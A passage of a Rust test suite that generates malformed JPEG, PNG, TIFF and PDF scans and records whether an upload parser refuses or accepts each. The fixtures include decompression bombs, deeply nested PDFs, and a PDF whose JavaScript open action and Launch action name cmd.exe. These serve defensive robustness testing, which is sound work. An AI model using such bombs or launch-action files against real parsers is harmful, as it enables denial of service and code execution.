    k.control("control-jpeg", "jpg", jpeg_page(200, 280, s), 1);
    jpeg_kinds(&mut k);
    mark("jpeg_kinds");
    png_kinds(&mut k);
    mark("png_kinds");
    let seeds = [k.seed(), k.seed(), k.seed()];
    k.control(
        "control-tiff-3-pages",
        "tif",
        tiff_pages(160, 224, &seeds),
        3,
    );
    tiff_kinds(&mut k);
    mark("tiff_kinds");
    let imgs: Vec<_> = (0..3)
        .map(|_| (200, 280, DCT_GRAY.to_owned(), jpeg_page(200, 280, k.seed())))
        .collect();
    k.control(
        "control-scanner-pdf-3-pages",
        "pdf",
        pdf_from_objects(&image_objects(&imgs)),
        3,
    );
    pdf_kinds(&mut k);
    mark("pdf_kinds");
    k.control(
        "control-text-pdf",
        "pdf",
        text_pdf(&["Widerspruch gegen den Bescheid vom 3. März"]),
        1,
    );
    not_a_scan_kinds(&mut k);
    mark("not_a_scan_kinds");
    name_kinds(&mut k);
    mark("name_kinds");
    duplicate_kinds(&mut k);
    mark("duplicate_kinds");
    let s = k.seed();
    k.control("control-png-last", "png", png_page(200, 280, s, 300), 1);
    k.list
}

fn jpeg_kinds(k: &mut Scans) {
    let s = k.seed();
    let base = jpeg_page(200, 280, s);
    assert!(base.ends_with(&[0xFF, 0xD9]), "test bug: JPEG without EOI");
    let eoi: &[u8] = &[0xFF, 0xD9];
    let data = jpeg_scan_start(&base);
    let end = base.len() - 2;
    let sof = jpeg_seg(&base, 0xC0);
    let at = |p: usize| data + (end - data) * p / 100;
    for (name, cut) in [
        ("in-headers", sof + 6),
        ("at-scan-start", data + 16),
        ("30pct", at(30)),
        ("60pct", at(60)),
        ("90pct", at(90)),
        ("last-bytes", end - 3),
    ] {
        k.refuse(&format!("jpeg-cut-{name}"), "jpg", base[..cut].to_vec());
        k.refuse(
            &format!("jpeg-cut-{name}-eoi-appended"),
            "jpg",
            cat(&[&base[..cut], eoi]),
        );
    }
    k.either("jpeg-eoi-missing", "jpg", base[..end].to_vec());
    k.refuse("jpeg-soi-broken", "jpg", patched(&base, |v| v[1] = 0x00));
    k.refuse(
        "jpeg-first-byte-zero",
        "jpg",
        patched(&base, |v| v[0] = 0x00),
    );
    k.refuse(
        "jpeg-sof-says-lossless",
        "jpg",
        patched(&base, |v| v[sof + 1] = 0xC3),
    );
    k.refuse(
        "jpeg-sof-says-arithmetic",
        "jpg",
        patched(&base, |v| v[sof + 1] = 0xC9),
    );
    k.refuse(
        "jpeg-sof-precision-0",
        "jpg",
        patched(&base, |v| v[sof + 4] = 0),
    );
    k.refuse(
        "jpeg-sof-no-components",
        "jpg",
        patched(&base, |v| v[sof + 9] = 0),
    );
    k.refuse(
        "jpeg-sof-60000x60000",
        "jpg",
        patched(&base, |v| {
            put_be16(v, sof + 5, 60000);
            put_be16(v, sof + 7, 60000);
        }),
    );
    k.refuse(
        "jpeg-sof-width-0",
        "jpg",
        patched(&base, |v| put_be16(v, sof + 7, 0)),
    );
    k.refuse(
        "jpeg-sof-height-0",
        "jpg",
        patched(&base, |v| put_be16(v, sof + 5, 0)),
    );
    k.refuse(
        "jpeg-first-segment-length-ffff",
        "jpg",
        patched(&base, |v| put_be16(v, 4, 0xFFFF)),
    );
    let dht = jpeg_seg(&base, 0xC4);
    k.refuse(
        "jpeg-dht-length-3",
        "jpg",
        patched(&base, |v| put_be16(v, dht + 2, 3)),
    );
    k.refuse("jpeg-dqt-removed", "jpg", jpeg_without(&base, 0xDB));
    k.either("jpeg-dht-removed", "jpg", jpeg_without(&base, 0xC4));
    let dqt = jpeg_seg(&base, 0xDB);
    k.either(
        "jpeg-dqt-value-flipped",
        "jpg",
        patched(&base, |v| v[dqt + 10] ^= 0x5A),
    );
    let sos = jpeg_seg(&base, 0xDA);
    k.refuse(
        "jpeg-sos-unknown-component",
        "jpg",
        patched(&base, |v| v[sos + 5] = 7),
    );
    let mut rng = Rng(0x5EED_0001);
    k.either(
        "jpeg-scan-data-random",
        "jpg",
        patched(&base, |v| {
            for b in &mut v[data..end] {
                *b = (rng.next() as u8).min(0xFE);
            }
        }),
    );
    k.either(
        "jpeg-scan-data-zeros",
        "jpg",
        patched(&base, |v| v[data..end].fill(0)),
    );
    k.either(
        "jpeg-bogus-restart-markers",
        "jpg",
        patched(&base, |v| {
            for p in [30, 50, 70] {
                v[at(p)] = 0xFF;
                v[at(p) + 1] = 0xD3;
            }
        }),
    );
    k.refuse("jpeg-no-scan", "jpg", cat(&[&base[..sos], eoi]));
    let s2 = k.seed();
    k.add(
        "jpeg-two-images-concatenated",
        "jpg",
        cat(&[&base, &jpeg_page(200, 280, s2)]),
        Expect::EitherPages(1),
    );
    k.add(
        "jpeg-5mb-trailing-garbage",
        "jpg",
        cat(&[&base, &Rng(0x5EED_0002).bytes(5 << 20)]),
        Expect::EitherPages(1),
    );
    k.heavy();
    k.refuse(
        "jpeg-preallocated-zeros",
        "jpg",
        preallocated(&base, at(40)),
    );
}

fn png_kinds(k: &mut Scans) {
    let s = k.seed();
    let base = png_page(200, 280, s, 300);
    let iend = png_chunk(b"IEND", &[]);
    let (idat, idat_len) = png_chunk_at(&base, b"IDAT");
    let (iend_at, _) = png_chunk_at(&base, b"IEND");
    let in_idat = |p: usize| idat + 8 + idat_len * p / 100;
    k.refuse("png-signature-only", "png", base[..8].to_vec());
    k.refuse("png-cut-in-ihdr", "png", base[..20].to_vec());
    k.refuse("png-cut-after-ihdr", "png", base[..33].to_vec());
    k.refuse(
        "png-cut-after-ihdr-iend-appended",
        "png",
        cat(&[&base[..33], &iend]),
    );
    for p in [10, 50, 90] {
        k.refuse(
            &format!("png-cut-idat-{p}pct"),
            "png",
            base[..in_idat(p)].to_vec(),
        );
    }
    for p in [50, 90] {
        k.refuse(
            &format!("png-cut-idat-{p}pct-iend-appended"),
            "png",
            cat(&[&base[..in_idat(p)], &iend]),
        );
    }
    k.add(
        "png-iend-missing",
        "png",
        base[..iend_at].to_vec(),
        Expect::EitherPages(1),
    );
    k.add(
        "png-last-byte-missing",
        "png",
        base[..base.len() - 1].to_vec(),
        Expect::EitherPages(1),
    );
    k.refuse(
        "png-ihdr-flipped-stale-crc",
        "png",
        patched(&base, |v| v[19] ^= 0x40),
    );
    k.refuse(
        "png-idat-flipped-stale-crc",
        "png",
        patched(&base, |v| v[in_idat(50)] ^= 0x81),
    );
    k.add(
        "png-idat-flipped-crc-fixed",
        "png",
        patched(&base, |v| {
            v[in_idat(50)] ^= 0x81;
            png_refresh_crc(v, idat);
        }),
        Expect::EitherPages(1),
    );
    k.refuse(
        "png-ihdr-60000x60000",
        "png",
        png_ihdr(&base, |d| {
            d[0..4].copy_from_slice(&60000u32.to_be_bytes());
            d[4..8].copy_from_slice(&60000u32.to_be_bytes());
        }),
    );
    k.refuse(
        "png-ihdr-width-0",
        "png",
        png_ihdr(&base, |d| d[0..4].fill(0)),
    );
    k.refuse("png-ihdr-bit-depth-3", "png", png_ihdr(&base, |d| d[8] = 3));
    k.refuse(
        "png-ihdr-colour-type-5",
        "png",
        png_ihdr(&base, |d| d[9] = 5),
    );
    k.refuse(
        "png-ihdr-compression-1",
        "png",
        png_ihdr(&base, |d| d[10] = 1),
    );
    k.refuse(
        "png-ihdr-interlace-7",
        "png",
        png_ihdr(&base, |d| d[12] = 7),
    );
    k.refuse(
        "png-palette-without-plte",
        "png",
        png_ihdr(&base, |d| d[9] = 3),
    );
    k.refuse(
        "png-ihdr-claims-100-rows-more",
        "png",
        png_ihdr(&base, |d| d[4..8].copy_from_slice(&380u32.to_be_bytes())),
    );
    k.add(
        "png-ihdr-claims-100-rows-fewer",
        "png",
        png_ihdr(&base, |d| d[4..8].copy_from_slice(&180u32.to_be_bytes())),
        Expect::EitherPages(1),
    );
    k.refuse(
        "png-idat-length-2gb",
        "png",
        patched(&base, |v| put_be32(v, idat, 0x7FFF_FFFF)),
    );
    k.refuse(
        "png-zlib-header-broken",
        "png",
        patched(&base, |v| {
            v[idat + 8] = 0x00;
            png_refresh_crc(v, idat);
        }),
    );
    let second_ihdr =
        png_ihdr(&base, |d| d[0..4].copy_from_slice(&900u32.to_be_bytes()))[8..33].to_vec();
    k.add(
        "png-two-ihdr",
        "png",
        cat(&[&base[..33], &second_ihdr, &base[33..]]),
        Expect::EitherPages(1),
    );
    let mut text = Vec::new();
    for i in 0..50_000 {
        text.extend_from_slice(&png_chunk(b"tEXt", format!("Kommentar\0{i}").as_bytes()));
    }
    k.add(
        "png-50000-text-chunks",
        "png",
        cat(&[&base[..33], &text, &base[33..]]),
        Expect::EitherPages(1),
    );
    k.heavy();
    // Valid by the standard: the image data in one-byte IDAT chunks.
    let s2 = k.seed();
    let other = png_page(200, 280, s2, 300);
    let z = png_zlib(&other);
    let mut tiny = other[..33].to_vec();
    for b in &z {
        tiny.extend_from_slice(&png_chunk(b"IDAT", std::slice::from_ref(b)));
    }
    tiny.extend_from_slice(&iend);
    k.add(
        "png-idat-in-one-byte-chunks",
        "png",
        tiny,
        Expect::Accept(1),
    );
    k.refuse(
        "png-signature-then-random",
        "png",
        cat(&[&base[..8], &Rng(0x5EED_0003).bytes(30_000)]),
    );
    let without_idat: Vec<u8> = png_chunks(&base)
        .into_iter()
        .filter(|c| &c.0 != b"IDAT")
        .flat_map(|c| base[c.1..c.1 + 12 + c.2].to_vec())
        .collect();
    k.refuse("png-no-idat", "png", cat(&[&base[..8], &without_idat]));
    k.refuse(
        "png-bomb-20000x20000-white",
        "png",
        white_bilevel_png(20_000, 20_000),
    );
    k.heavy();
    k.refuse(
        "png-preallocated-zeros",
        "png",
        preallocated(&base, in_idat(30)),
    );
}

fn tiff_kinds(k: &mut Scans) {
    let seeds = [k.seed(), k.seed(), k.seed()];
    let base = tiff_pages(160, 224, &seeds);
    let ifds = tiff_ifds(&base);
    assert_eq!(ifds.len(), 3, "test bug: TIFF layout");
    let len = base.len() as u32;
    k.refuse("tiff-cut-4", "tif", base[..4].to_vec());
    k.refuse("tiff-cut-8", "tif", base[..8].to_vec());
    for p in [30, 60, 95] {
        k.refuse(
            &format!("tiff-cut-{p}pct"),
            "tif",
            base[..base.len() * p / 100].to_vec(),
        );
    }
    k.add(
        "tiff-last-byte-missing",
        "tif",
        base[..base.len() - 1].to_vec(),
        Expect::EitherPages(3),
    );
    k.refuse("tiff-zero-pages", "tif", b"II*\0\0\0\0\0".to_vec());
    k.refuse(
        "tiff-first-ifd-past-eof",
        "tif",
        patched(&base, |v| put_le32(v, 4, len + 4096)),
    );
    let next3 = tiff_next_field(&base, ifds[2]);
    k.add(
        "tiff-ifd-loop-to-itself",
        "tif",
        patched(&base, |v| put_le32(v, next3, ifds[2] as u32)),
        Expect::EitherPages(3),
    );
    k.add(
        "tiff-ifd-loop-to-first",
        "tif",
        patched(&base, |v| put_le32(v, next3, ifds[0] as u32)),
        Expect::EitherPages(3),
    );
    k.refuse(
        "tiff-strips-past-eof",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 273, len + 10_000)),
    );
    k.refuse(
        "tiff-strip-byte-counts-huge",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 279, 0xFFFF_FF00)),
    );
    k.refuse(
        "tiff-60000x60000",
        "tif",
        patched(&base, |v| {
            tiff_set_all(v, ifds[0], 256, 60000);
            tiff_set_all(v, ifds[0], 257, 60000);
        }),
    );
    k.refuse(
        "tiff-width-0",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 256, 0)),
    );
    k.refuse(
        "tiff-page-2-strips-past-eof",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[1], 273, len + 10_000)),
    );
    let mut rng = Rng(0x5EED_0004);
    k.refuse(
        "tiff-page-2-data-garbage",
        "tif",
        patched(&base, |v| {
            tiff_strips(v, ifds[1], |s| s.fill_with(|| rng.next() as u8));
        }),
    );
    k.refuse(
        "tiff-page-2-ifd-zeroed",
        "tif",
        patched(&base, |v| {
            let end = tiff_next_field(v, ifds[1]) + 4;
            v[ifds[1]..end].fill(0);
        }),
    );
    k.refuse(
        "tiff-page-2-60000-wide",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[1], 256, 60000)),
    );
    let next2 = tiff_next_field(&base, ifds[1]);
    k.refuse(
        "tiff-page-3-ifd-past-eof",
        "tif",
        patched(&base, |v| put_le32(v, next2, len + 64)),
    );
    k.refuse(
        "tiff-bigtiff-header-garbage",
        "tif",
        cat(&[b"II+\0\x08\0\0\0", &Rng(0x5EED_0005).bytes(4000)]),
    );
    k.refuse(
        "tiff-big-endian-mark-on-little-endian-data",
        "tif",
        patched(&base, |v| v[..4].copy_from_slice(b"MM\0*")),
    );
    k.refuse(
        "tiff-compression-jpeg2000",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 259, 34712)),
    );
    k.refuse(
        "tiff-page-2-compression-unknown",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[1], 259, 34712)),
    );
    k.refuse(
        "tiff-bits-per-sample-0",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 258, 0)),
    );
    k.refuse(
        "tiff-ifd-entry-count-65535",
        "tif",
        patched(&base, |v| put_le16(v, ifds[0], 0xFFFF)),
    );
    k.refuse(
        "tiff-claims-rgb-holds-grey",
        "tif",
        patched(&base, |v| {
            tiff_set_all(v, ifds[0], 277, 3);
            tiff_set_all(v, ifds[0], 262, 2);
        }),
    );
    k.either(
        "tiff-photometric-cmyk",
        "tif",
        patched(&base, |v| tiff_set_all(v, ifds[0], 262, 5)),
    );
    let s = k.seed();
    let g4 = g4_tiff(&[(
        image::GrayImage::from_raw(400, 560, gray_pixels(400, 560, s)).unwrap(),
        300,
    )]);
    let g4_ifd = tiff_ifds(&g4)[0];
    let mut rng = Rng(0x5EED_0006);
    k.refuse(
        "tiff-g4-data-garbage",
        "tif",
        patched(&g4, |v| {
            tiff_strips(v, g4_ifd, |s| s.fill_with(|| rng.next() as u8));
        }),
    );
    let g4_len = tiff_get(&g4, g4_ifd, 279)[0] as u32;
    k.refuse(
        "tiff-g4-strip-half",
        "tif",
        patched(&g4, |v| tiff_set_all(v, g4_ifd, 279, g4_len / 2)),
    );
    k.refuse(
        "tiff-g4-claims-4x-rows",
        "tif",
        patched(&g4, |v| {
            tiff_set_all(v, g4_ifd, 257, 2240);
            tiff_set_all(v, g4_ifd, 278, 2240);
        }),
    );
    k.either(
        "tiff-g4-data-zeros",
        "tif",
        patched(&g4, |v| tiff_strips(v, g4_ifd, |s| s.fill(0))),
    );
    let many: Vec<u32> = (0..400).map(|i| 9000 + i).collect();
    k.add(
        "tiff-400-tiny-pages",
        "tif",
        tiff_pages(48, 48, &many),
        Expect::EitherPages(400),
    );
    k.heavy();
    k.refuse(
        "tiff-preallocated-zeros",
        "tif",
        preallocated(&base, base.len() / 2),
    );
    // Cut inside the first page's link to the next: what is left is a
    // valid one-page TIFF with zero padding, which nothing can tell apart.
    k.add(
        "tiff-one-page-then-zero-padding",
        "tif",
        preallocated(&base, tiff_next_field(&base, ifds[0])),
        Expect::EitherPages(1),
    );
}

fn pdf_kinds(k: &mut Scans) {
    let images = |k: &mut Scans| -> Vec<(u32, u32, String, Vec<u8>)> {
        (0..3)
            .map(|_| (200, 280, DCT_GRAY.to_owned(), jpeg_page(200, 280, k.seed())))
            .collect()
    };
    let imgs = images(k);
    let base = pdf_from_objects(&image_objects(&imgs));
    let last_stream = rfind(&base, b">>\nstream\n").unwrap() + 10;
    k.refuse("pdf-cut-10pct", "pdf", base[..base.len() / 10].to_vec());
    k.refuse(
        "pdf-cut-in-last-image",
        "pdf",
        base[..last_stream + 400].to_vec(),
    );
    k.refuse(
        "pdf-cut-in-last-image-eof-appended",
        "pdf",
        cat(&[&base[..last_stream + 400], b"\n%%EOF\n"]),
    );
    let xref = rfind(&base, b"\nxref").unwrap();
    k.add(
        "pdf-xref-and-trailer-cut-off",
        "pdf",
        base[..xref + 1].to_vec(),
        Expect::EitherPages(3),
    );
    let eof = rfind(&base, b"%%EOF").unwrap();
    k.add(
        "pdf-eof-marker-missing",
        "pdf",
        base[..eof].to_vec(),
        Expect::EitherPages(3),
    );
    let sx = rfind(&base, b"startxref\n").unwrap() + 10;
    k.add(
        "pdf-startxref-wrong",
        "pdf",
        cat(&[&base[..sx], b"0\n%%EOF\n"]),
        Expect::EitherPages(3),
    );
    let with_pages = |k: &mut Scans, pages: &str| {
        let mut objs = image_objects(&images(k));
        objs[1] = format!("<< /Type /Pages {pages} >>").into_bytes();
        pdf_from_objects(&objs)
    };
    let b = with_pages(k, "/Kids [3 0 R 6 0 R 99 0 R] /Count 3");
    k.refuse("pdf-page-object-missing", "pdf", b);
    let b = with_pages(k, "/Kids [3 0 R 6 0 R 5 0 R] /Count 3");
    k.refuse("pdf-kid-is-an-image-not-a-page", "pdf", b);
    for count in ["5", "1", "0", "-1", "99999999999"] {
        let b = with_pages(k, &format!("/Kids [3 0 R 6 0 R 9 0 R] /Count {count}"));
        k.add(
            &format!("pdf-count-lies-{count}"),
            "pdf",
            b,
            Expect::EitherPages(3),
        );
    }
    let b = with_pages(k, "/Kids [] /Count 0");
    k.refuse("pdf-no-pages", "pdf", b);
    let b = with_pages(k, "/Kids [3 0 R 2 0 R] /Count 2");
    k.add("pdf-page-tree-loop", "pdf", b, Expect::EitherPages(1));
    let b = with_pages(k, "/Kids [3 0 R 3 0 R 3 0 R] /Count 3");
    k.either("pdf-same-page-three-times", "pdf", b);
    // Page 2's image replaced.
    let page2 = |k: &mut Scans, name: &str, dict: &str, data: Vec<u8>, expect: Expect| {
        let mut im = images(k);
        im[1] = (200, 280, dict.to_owned(), data);
        k.add(name, "pdf", pdf_from_objects(&image_objects(&im)), expect);
    };
    // Page 2 names an image object that is not in the file.
    let mut objs = image_objects(&images(k));
    objs[5] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 48 67.2] /Resources << /XObject << /Im0 99 0 R >> >> /Contents 7 0 R >>".to_vec();
    k.refuse(
        "pdf-page-2-image-object-missing",
        "pdf",
        pdf_from_objects(&objs),
    );
    page2(
        k,
        "pdf-page-2-dct-garbage",
        DCT_GRAY,
        Rng(0x5EED_0007).bytes(9000),
        Expect::Refuse,
    );
    let j = jpeg_page(200, 280, 31337);
    page2(
        k,
        "pdf-page-2-dct-cut-in-half",
        DCT_GRAY,
        j[..j.len() / 2].to_vec(),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-dct-header-only",
        DCT_GRAY,
        j[..jpeg_scan_start(&j)].to_vec(),
        Expect::Refuse,
    );
    let s2 = k.seed();
    let predicted = png_zlib(&png_page(200, 280, s2, 300));
    let predictor = "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 200 /Colors 1 /BitsPerComponent 8 >>";
    page2(
        k,
        "pdf-page-2-flate-predictor-valid",
        predictor,
        predicted.clone(),
        Expect::Accept(3),
    );
    page2(
        k,
        "pdf-page-2-flate-predictor-cut-in-half",
        predictor,
        predicted[..predicted.len() / 2].to_vec(),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-flate-garbage",
        "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
        Rng(0x5EED_0008).bytes(9000),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-raw-data-half",
        "/ColorSpace /DeviceGray /BitsPerComponent 8",
        vec![0x80; 200 * 140],
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-jpx-garbage",
        "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /JPXDecode",
        Rng(0x5EED_0009).bytes(9000),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-jbig2-garbage",
        "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
        Rng(0x5EED_000A).bytes(9000),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-ccitt-garbage",
        "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 200 /Rows 280 >>",
        Rng(0x5EED_000B).bytes(9000),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-unknown-filter",
        "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /RotDecode",
        Rng(0x5EED_000C).bytes(9000),
        Expect::Refuse,
    );
    page2(
        k,
        "pdf-page-2-bits-per-component-0",
        "/ColorSpace /DeviceGray /BitsPerComponent 0",
        vec![0x80; 200 * 280],
        Expect::Either,
    );
    page2(
        k,
        "pdf-page-2-bits-per-component-3",
        "/ColorSpace /DeviceGray /BitsPerComponent 3",
        vec![0x80; 200 * 280],
        Expect::Either,
    );
    page2(
        k,
        "pdf-page-2-colour-space-bogus",
        "/ColorSpace /Gibtsnicht /BitsPerComponent 8",
        vec![0x80; 200 * 280],
        Expect::Either,
    );
    page2(
        k,
        "pdf-page-2-smask-loop",
        "/ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 8 0 R",
        vec![0x70; 200 * 280],
        Expect::Either,
    );
    // The DCT data of a 200×280 image under a 60000×60000 header.
    let mut im = images(k);
    im[0].0 = 60000;
    im[0].1 = 60000;
    k.refuse(
        "pdf-image-claims-60000x60000",
        "pdf",
        pdf_from_objects(&image_objects(&im)),
    );
    // A white 20000×20000 image, Flate-compressed with PNG predictors: a
    // few hundred kB that would be 400 megapixels.
    let bomb = png_zlib(&white_bilevel_png(20_000, 20_000));
    let mut im = images(k);
    im[0] = (
        20_000,
        20_000,
        "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 20000 /Colors 1 /BitsPerComponent 1 >>".to_owned(),
        bomb,
    );
    k.refuse(
        "pdf-image-bomb-400-megapixels",
        "pdf",
        pdf_from_objects(&image_objects(&im)),
    );
    k.heavy();
    // Encrypted (or looking so).
    let objs = image_objects(&images(k));
    let n = objs.len() + 1;
    let mut enc = objs.clone();
    enc.push(
        format!(
            "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <{}> /U <{}> >>",
            "a5".repeat(32),
            "3c".repeat(32)
        )
        .into_bytes(),
    );
    k.refuse(
        "pdf-encrypted-standard-handler",
        "pdf",
        with_trailer(
            &pdf_from_objects(&enc),
            &format!("/Encrypt {n} 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]"),
        ),
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    // A reference to a missing object is null: not encrypted after all.
    k.add(
        "pdf-encrypt-reference-to-nothing",
        "pdf",
        with_trailer(&b, "/Encrypt 77 0 R"),
        Expect::EitherPages(3),
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    k.refuse(
        "pdf-encrypted-public-key-handler",
        "pdf",
        with_trailer(
            &b,
            "/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<3082>] >>",
        ),
    );
    // 3000 empty A4 pages.
    let mut objs = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!(
            "<< /Type /Pages /Kids [{}] /Count 3000 >>",
            (0..3000)
                .map(|i| format!("{} 0 R", i + 3))
                .collect::<Vec<_>>()
                .join(" ")
        )
        .into_bytes(),
    ];
    objs.extend(
        (0..3000).map(|_| b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec()),
    );
    k.add(
        "pdf-3000-empty-pages",
        "pdf",
        pdf_from_objects(&objs),
        Expect::EitherPages(3000),
    );
    k.heavy();
    k.isolated("pdf-deeply-nested-arrays", Expect::Either);
    k.isolated("pdf-deeply-nested-dicts", Expect::Either);
    k.isolated("pdf-deeply-nested-content-arrays", Expect::Either);
    k.refuse(
        "pdf-header-then-random",
        "pdf",
        cat(&[b"%PDF-1.7\n", &Rng(0x5EED_000D).bytes(50_000)]),
    );
    k.refuse("pdf-header-only", "pdf", b"%PDF-".to_vec());
    k.refuse(
        "pdf-pages-tree-without-any-page",
        "pdf",
        pdf_from_objects(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>".to_vec(),
        ]),
    );
    let line = text_content("Antrag auf Weiterbewilligung");
    k.either(
        "pdf-mediabox-zero",
        "pdf",
        page_pdf("/MediaBox [0 0 0 0]", &line),
    );
    k.either(
        "pdf-mediabox-huge",
        "pdf",
        page_pdf("/MediaBox [0 0 1e9 1e9]", &line),
    );
    k.heavy();
    k.either(
        "pdf-mediabox-inverted",
        "pdf",
        page_pdf("/MediaBox [0 0 -595 -842]", &line),
    );
    k.either(
        "pdf-mediabox-1e400",
        "pdf",
        page_pdf("/MediaBox [0 0 1e400 842]", &line),
    );
    k.either(
        "pdf-mediabox-missing",
        "pdf",
        page_pdf("", &text_content("Seite ohne MediaBox")),
    );
    k.either(
        "pdf-rotate-45",
        "pdf",
        page_pdf("/MediaBox [0 0 595 842] /Rotate 45", &line),
    );
    let mut ops = String::from("0.1 w ");
    for i in 0..200_000 {
        let _ = write!(
            ops,
            "{} {} m {} {} l S ",
            i % 595,
            i % 842,
            (i * 7) % 595,
            (i * 3) % 842
        );
    }
    k.add(
        "pdf-content-200000-operators",
        "pdf",
        page_pdf("/MediaBox [0 0 595 842]", ops.as_bytes()),
        Expect::EitherPages(1),
    );
    k.heavy();
    k.add(
        "pdf-content-garbage-operators",
        "pdf",
        page_pdf(
            "/MediaBox [0 0 595 842]",
            b"BT /F9 12 Tf 1 2 3 4 5 6 7 Tm (x) Tj ET q q q Q Q Q Q Q zz 7 0 obj BI /W 9 ID \xff\xfe EI",
        ),
        Expect::EitherPages(1),
    );
    // The same stream 10,000 times as the page's contents.
    let contents = format!(
        "/MediaBox [0 0 595 842] /Contents [{}]",
        "5 0 R ".repeat(10_000)
    );
    let b = page_pdf(&contents, &text_content("x"));
    k.add(
        "pdf-contents-same-stream-10000-times",
        "pdf",
        b,
        Expect::EitherPages(1),
    );
    k.heavy();
    // 200 MB of white space behind 200 kB of Flate data as content stream.
    let z = zlib_run(b' ', 200 << 20);
    let mut content_bomb = pdf_from_objects(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>".to_vec(),
        stream_object("/Filter /FlateDecode", &z),
    ]);
    content_bomb.shrink_to_fit();
    k.add(
        "pdf-content-stream-bomb-200mb",
        "pdf",
        content_bomb,
        Expect::EitherPages(1),
    );
    k.heavy();
    k.add(
        "pdf-javascript-and-launch-action",
        "pdf",
        pdf_from_objects(&[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >> /AA << /WC << /S /Launch /F (cmd.exe) >> >> >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>".to_vec(),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
            stream_object("", &text_content("Bitte öffnen")),
        ]),
        Expect::EitherPages(1),
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    k.either(
        "pdf-garbage-before-header",
        "pdf",
        cat(&[&Rng(0x5EED_000E).bytes(1024), &b]),
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    k.add(
        "pdf-broken-incremental-update",
        "pdf",
        cat(&[
            &b,
            b"\n9 0 obj << /Type /Page /Parent 2 0 R >> \nxref\n0 1\nzzzzzzzzzz 65535 f \ntrailer << /Root 99 0 R /Prev 77777 >>\nstartxref\n123456\n%%EOF\n",
        ]),
        Expect::Either,
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    let xref_at = rfind(&b, b"xref\n").unwrap();
    k.add(
        "pdf-xref-offsets-all-wrong",
        "pdf",
        patched(&b, |v| {
            for i in xref_at + 5..v.len() {
                if v[i..].starts_with(b" 00000 n") {
                    v[i - 10..i].copy_from_slice(b"0000000017");
                }
            }
        }),
        Expect::EitherPages(3),
    );
    k.either(
        "pdf-font-program-garbage",
        "pdf",
        pdf_from_objects(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>".to_vec(),
            b"<< /Type /Font /Subtype /TrueType /BaseFont /Boese /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>".to_vec(),
            stream_object("", &text_content("Mahnung")),
            b"<< /Type /FontDescriptor /FontName /Boese /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>".to_vec(),
            stream_object("", &Rng(0x5EED_000F).bytes(20_000)),
        ]),
    );
    let b = pdf_from_objects(&image_objects(&images(k)));
    k.refuse(
        "pdf-preallocated-zeros",
        "pdf",
        preallocated(&b, b.len() / 4),
    );
}

fn not_a_scan_kinds(k: &mut Scans) {
    k.refuse("zero-length", "pdf", Vec::new());
    k.refuse("one-byte", "jpg", vec![0xFF]);
    k.refuse("two-bytes-jpeg-soi", "jpg", vec![0xFF, 0xD8]);
    k.refuse("three-bytes-png-start", "png", b"\x89PN".to_vec());
    let zip = |files: &[(&str, &[u8])]| {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
